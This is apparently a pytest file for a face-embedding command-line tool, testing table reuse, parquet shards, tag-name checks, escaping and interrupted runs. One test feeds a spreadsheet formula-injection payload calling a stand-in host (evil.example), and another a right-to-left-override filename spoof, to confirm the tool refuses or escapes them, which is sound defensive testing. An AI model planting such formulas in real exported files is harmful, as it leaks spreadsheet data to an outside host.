"""Fourteenth robustness round, command line."""

from __future__ import annotations

import shutil
import sys
from pathlib import Path

import pandas as pd
import pytest

from exprsim.cli import main
from exprsim.samples import sample_path

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "index"))
from stub_embedder import StubEmbedder, write_images


def _imgs(folder: Path, names: tuple[str, ...]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name in names:
        shutil.copy(sample_path(name), folder / name)
    return folder


@pytest.mark.parametrize("suffix", [".parquet", ".csv"])
def test_files_loaded_from_an_embed_table_are_not_embedded_again(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], suffix: str
) -> None:
    imgs = _imgs(tmp_path / "imgs", ("grace_hopper.jpg", "astronaut_eileen_collins.jpg"))
    table = tmp_path / f"e{suffix}"
    db = str(tmp_path / "faces.db")
    assert main(["-q", "embed", str(imgs), "-o", str(table)]) == 0
    frame = pd.read_parquet(table) if suffix == ".parquet" else pd.read_csv(table)
    st = (imgs / "grace_hopper.jpg").stat()
    row = frame[frame["source"].str.endswith("grace_hopper.jpg")].iloc[0]
    assert (int(row["size"]), int(row["mtime_ns"])) == (st.st_size, st.st_mtime_ns)
    if suffix == ".parquet":
        assert main(["-q", "index", "add", "--from-parquet", str(table), "--db", db]) == 0
        capsys.readouterr()
        assert main(["index", "add", str(imgs), "--db", db]) == 0
        out = capsys.readouterr()
        # was: both files embedded again ("2 updated"), the bulk load's work thrown away
        assert "2 skipped" in out.out + out.err, out
        query = str(sample_path("grace_hopper.jpg"))
        assert main(["-q", "search", query, "--db", db, "-k", "2"]) == 0
        # was: its copy in the album came back first, at distance 0 (no hash to know it)
        assert "grace_hopper.jpg" not in capsys.readouterr().out


def test_an_empty_embed_table_reads_with_the_others_as_one_dataset(tmp_path: Path) -> None:
    import numpy as np
    from PIL import Image

    noface = tmp_path / "noface"
    noface.mkdir()
    Image.fromarray(np.full((120, 160, 3), 128, np.uint8)).save(noface / "wall.png")
    faces = _imgs(tmp_path / "faces", ("grace_hopper.jpg",))
    shards = tmp_path / "shards"
    shards.mkdir()
    assert main(["-q", "embed", str(noface), "-o", str(shards / "part-0.parquet")]) == 0
    assert main(["-q", "embed", str(faces), "-o", str(shards / "part-1.parquet")]) == 0
    # was: ArrowNotImplementedError "Unsupported cast from large_string to null"
    both = pd.read_parquet(shards)
    assert len(both) == 1 and both["face"].dtype == "int64" and both["size"].dtype == "int64"


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&A2)', "@SUM(A1)", "+1", "-x"])
def test_a_tag_name_a_spreadsheet_would_run_is_refused(name: str) -> None:
    from exprsim.errors import ExprsimError
    from exprsim.index.store import check_new_tag_name

    with pytest.raises(ExprsimError, match="would run it as a formula"):
        check_new_tag_name(name)  # was: accepted, then whole cells of tag -o / search -o
    check_new_tag_name("a=b+c")  # inside the name it is text


def test_tag_messages_show_a_name_once_escaped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = str(tmp_path / "faces.db")
    img = _imgs(tmp_path / "imgs", ("grace_hopper.jpg",)) / "grace_hopper.jpg"
    assert main(["-q", "tag", "add", "C:\\smile", str(img), "--db", db]) == 0
    out = capsys.readouterr().out
    assert "for 'C:\\smile' from" in out, out  # was 'C:\\\\smile' (repr)
    assert main(["-q", "tag", "remove", "C:\\nope", "--db", db]) == 1
    assert "no tag named 'C:\\nope'" in capsys.readouterr().err


def test_search_tables_escape_control_characters_in_names(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    album = tmp_path / "album"
    album.mkdir()
    spoof = album / "photo_\u202egnp.jpg"
    shutil.copy(sample_path("grace_hopper.jpg"), spoof)
    shutil.copy(sample_path("astronaut_eileen_collins.jpg"), album / "a\nb.jpg")
    db = str(tmp_path / "faces.db")
    assert main(["-q", "index", "add", str(album), "--db", db]) == 0
    out = tmp_path / "hits.csv"
    query = str(sample_path("pexels_langer_frame000.jpg"))  # not a copy of either
    assert main(["-q", "search", query, "--db", db, "-k", "2", "-o", str(out)]) == 0
    printed = capsys.readouterr().out
    text = out.read_text(encoding="utf-8")
    # was: a live U+202E (shown as "photo_gpj.png") and a newline inside a CSV field
    assert "\u202e" not in printed + text and "\\u202e" in text
    assert len(text.splitlines()) == 3 and "a\\nb.jpg" in text and "a\\nb.jpg" in printed


class _StopAfter:
    """A stub model that embeds one face at a time and gets a Ctrl-C after ``stop`` images."""

    def __init__(self, stop: int) -> None:
        self.stub = StubEmbedder()
        self.config = self.stub.config
        self.embedding_dim = 16
        self.stop = stop

    def iter_faces(self, images, detector=None, progress=False, failures=None, workers=None):  # type: ignore[no-untyped-def]
        import signal

        for n, item in enumerate(self.stub.embed_stream(images, detector)):
            if n == self.stop:
                signal.raise_signal(signal.SIGINT)
            yield from item.faces


def test_an_interrupted_summarize_summarises_the_faces_found(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from cli_run import run, stub_cli_model

    imgs = write_images(tmp_path / "p", 6)
    out, html = tmp_path / "s.csv", tmp_path / "s.html"
    html.write_text("an earlier report")
    stub_cli_model(monkeypatch, _StopAfter(4))
    rc, _, err = run(capsys, "summarize", *map(str, imgs), "-n", "2", "-o", str(out),
                     "--html", str(html))  # fmt: skip
    # was: exit 130 and nothing written, after every face had been embedded
    assert rc == 130 and "exprsim summarize: interrupted: a summary of the 4 faces" in err
    assert len(pd.read_csv(out)) == 4 and html.read_text() == "an earlier report"
    assert "before the interruption" in (tmp_path / "s.partial.html").read_text()
